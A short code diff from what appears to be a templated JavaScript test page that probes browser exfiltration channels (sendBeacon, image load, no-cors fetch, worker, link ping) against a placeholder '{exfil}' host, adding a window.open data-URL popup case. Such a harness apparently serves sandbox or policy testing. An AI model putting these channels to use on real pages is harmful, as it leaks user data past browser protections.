@@ -37,6 +37,7 @@ const worker = () => new Promise((done) => {{
   const w = new Worker(URL.createObjectURL(new Blob([code])));
   w.onmessage = w.onerror = done; }});
 navigator.sendBeacon('{exfil}/beacon', 'x');
+window.open('data:text/html,<p>popup secret</p>');
 document.getElementById('ping').click();
 document.getElementById('js').click();
 Promise.all([img('{exfil}/img'), settle(fetch('{exfil}/fetch', {{mode: 'no-cors'}})),
